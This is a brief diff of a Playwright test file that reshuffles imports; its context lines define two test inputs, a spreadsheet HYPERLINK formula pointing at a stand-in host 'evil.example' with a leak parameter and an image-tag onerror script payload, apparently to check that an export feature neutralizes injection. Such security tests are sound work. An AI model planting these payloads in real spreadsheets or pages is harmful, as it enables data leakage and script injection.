@@ -2,8 +2,8 @@ import { readFileSync } from 'node:fs';
 import type { Download, Page } from '@playwright/test';
 import { readXlsx } from 'hucre/xlsx';
 import { importOnly, review, text } from './review';
-import { dialog, openLive, patience, showHistory, showOverview, unitRow } from './screen';
-import { expect, test } from './site';
+import { expect, openLive, test } from './live';
+import { dialog, patience, showHistory, showOverview, unitRow } from './screen';
 
 const formula = '=HYPERLINK("http://evil.example/?leak=1";"Tân An")';
 const image = '<img src=x onerror="globalThis.wasHit=1">';
